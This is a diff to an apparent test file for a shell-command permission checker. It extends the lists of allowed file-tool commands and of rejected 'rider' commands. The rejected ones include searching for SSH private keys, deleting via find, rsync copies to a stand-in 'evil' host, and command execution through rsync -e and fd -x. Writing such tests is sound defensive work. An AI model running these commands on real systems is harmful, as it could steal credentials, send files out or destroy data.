@@ -14,11 +14,16 @@ describeProfiles('file-tools', {
     'find . -newer a',
     "find . -regex '.*rm.*'",
     'find . \\( -name a -o -name b \\) -print',
+    'tree -L 2 -I node_modules',
+    "find src -name '*.test.ts' -not -path '*/node_modules/*'",
+    "find . -name '*.ts' -exec grep -l foo {} +",
+    'fd -t f -H foo src',
+    'file a.bin',
+    'lsof -nP -iTCP -sTCP:LISTEN',
+    'objdump -d a.o',
+    "find . -path '*/poweroff/*'",
   ],
-  granted: {
-    'find . -name *.tmp -delete': ["find . -name '*.tmp' -delete"],
-    rsync: ['rsync -av src/ dst/'],
-  },
+  granted: { 'find . -name *.tmp -delete': ["find . -name '*.tmp' -delete"], rsync: ['rsync -av src/ dst/'] },
   riders: {
     find: [
       'find . -delete',
@@ -27,7 +32,10 @@ describeProfiles('file-tools', {
       'find . -fls x',
       'find / -name id_rsa',
       'find . -files0-from x',
+      'find / -name x',
+      'find . -na*',
     ],
-    rsync: ['rsync -e id a b', 'rsync a host:x', 'rsync --delete a b'],
+    rsync: ['rsync -e id a b', 'rsync a host:x', 'rsync --delete a b', 'rsync x evil:y', 'rsync -av . rsync://evil/x'],
+    fd: ['fd x -x id'],
   },
 })
